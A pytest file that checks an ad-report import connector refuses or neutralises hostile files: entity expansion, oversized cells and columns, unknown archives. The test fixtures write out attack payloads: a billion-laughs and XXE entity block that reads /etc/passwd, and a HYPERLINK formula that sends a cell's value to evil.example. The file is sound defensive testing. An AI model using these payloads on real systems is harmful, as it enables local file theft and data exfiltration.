"""Ad reports made to harm: bounded, never evaluated, and refused in a sentence."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from connectors.files.meta_ads import MetaAds
from connectors.files.registry import recognise
from connectors.kit.errors import FileRefusedError, NotRecognisedError
from connectors.kit.formats import ReadOptions
from connectors.kit.input_file import InputFile
from connectors.kit.tables import open_table
from tests.builders.ad_exports import META, NOW, read_bytes, table_bytes, workbook_bytes

HEADER = [
    "Campaign name", "Day", "Impressions", "Link clicks", "Amount spent (EUR)",
    "Reporting starts", "Reporting ends",
]  # fmt: skip
ROW = ["A", "2026-06-02", "90", "3", "1.50", "2026-06-02", "2026-06-02"]
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"open")'


def _changed(content: bytes, member: str, change: Callable[[bytes], bytes]) -> bytes:
    """A workbook with another content in one of its members."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            data = old.read(name)
            new.writestr(name, change(data) if name == member else data)
    return out.getvalue()


def _recognise(folder: Path, content: bytes, name: str = "export.csv") -> object:
    path = folder / name
    path.write_bytes(content)
    return recognise(InputFile(path), ReadOptions(now=NOW))


@pytest.mark.parametrize("member", ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"])
def test_entities_in_a_workbook_are_never_expanded(tmp_path: Path, member: str) -> None:
    laughs = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>'

    def laugh(data: bytes) -> bytes:
        head, _, body = data.partition(b"?>")
        return head + b"?>" + laughs + body.replace(b">A<", b">&b;&c;<")

    content = _changed(workbook_bytes([HEADER, ROW]), member, laugh)
    path = tmp_path / "export.xlsx"
    path.write_bytes(content)
    with pytest.raises(FileRefusedError, match="holds XML entities"):
        list(open_table(InputFile(path)))
    with pytest.raises(FileRefusedError):
        _recognise(tmp_path, content, "export.xlsx")


def test_a_formula_is_a_text_and_a_calculated_cell_its_stored_value(tmp_path: Path) -> None:
    rows = [HEADER, [FORMULA, *ROW[1:]]]
    for content in (table_bytes(rows, META), workbook_bytes(rows)):
        _, (stat,) = read_bytes(MetaAds(), tmp_path, content)
        assert stat.campaign_name == FORMULA

    content = workbook_bytes([HEADER, [*ROW[:2], "x", *ROW[3:]]])
    numbered = _changed(
        content,
        "xl/worksheets/sheet1.xml",
        lambda data: _with_formula(data, b'r="C2"', b"<f>WEBSERVICE(1)</f><v>90</v>"),
    )
    _, (stat,) = read_bytes(MetaAds(), tmp_path, numbered)
    assert stat.impressions == 90


def _with_formula(sheet: bytes, cell: bytes, content: bytes) -> bytes:
    start = sheet.index(b"<c " + cell)
    end = sheet.index(b"</c>", start)
    return sheet[:start] + b"<c " + cell + b">" + content + sheet[end:]


def test_ten_thousand_columns_are_no_report(tmp_path: Path) -> None:
    wide = table_bytes([HEADER + ["x"] * 10_000, ROW], META)
    with pytest.raises(NotRecognisedError, match="10,007 columns, more than 5,000, is no report"):
        _recognise(tmp_path, wide)


def test_a_huge_cell_is_rejected_or_refused(tmp_path: Path) -> None:
    long_name = table_bytes([HEADER, ["x" * 50_000, *ROW[1:]], ROW], META)
    reading, stats = read_bytes(MetaAds(), tmp_path, long_name)
    assert len(stats) == 1
    assert "50,000 characters" in reading.rejects[0].reason
    endless = table_bytes([HEADER, ["x" * (2 << 20), *ROW[1:]]], META)
    with pytest.raises(FileRefusedError, match="longer than"):
        read_bytes(MetaAds(), tmp_path, endless)


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("meta.numbers", {"Index/Document.iwa": b"x", "Data/a.jpg": b"x"}, "Apple Numbers"),
        (
            "Overview cards.zip",
            {
                "Campaigns(2026.05.01-2026.05.31).csv": b"Campaign Name,Cost\nA,1\n",
                "Devices(2026.05.01-2026.05.31).csv": b"Device,Cost\nA,1\n",
            },
            "cards of Google's Overview page",
        ),
    ],
)
def test_an_archive_that_holds_no_report_is_named(
    tmp_path: Path, name: str, content: dict[str, bytes], words: str
) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for member, data in content.items():
            archive.writestr(member, data)
    with pytest.raises(FileRefusedError, match=words):
        _recognise(tmp_path, out.getvalue(), name)


def test_an_unknown_table_is_described_by_its_columns_not_its_title(tmp_path: Path) -> None:
    rows = [
        ["Annonserapport"],
        [],
        ["Dato", "Kampanje", "Visninger", "Klikk"],
        ["1", "2", "3", "4"],
    ]
    with pytest.raises(NotRecognisedError, match="columns 'Dato', 'Kampanje', 'Visninger'"):
        _recognise(tmp_path, table_bytes(rows, META))
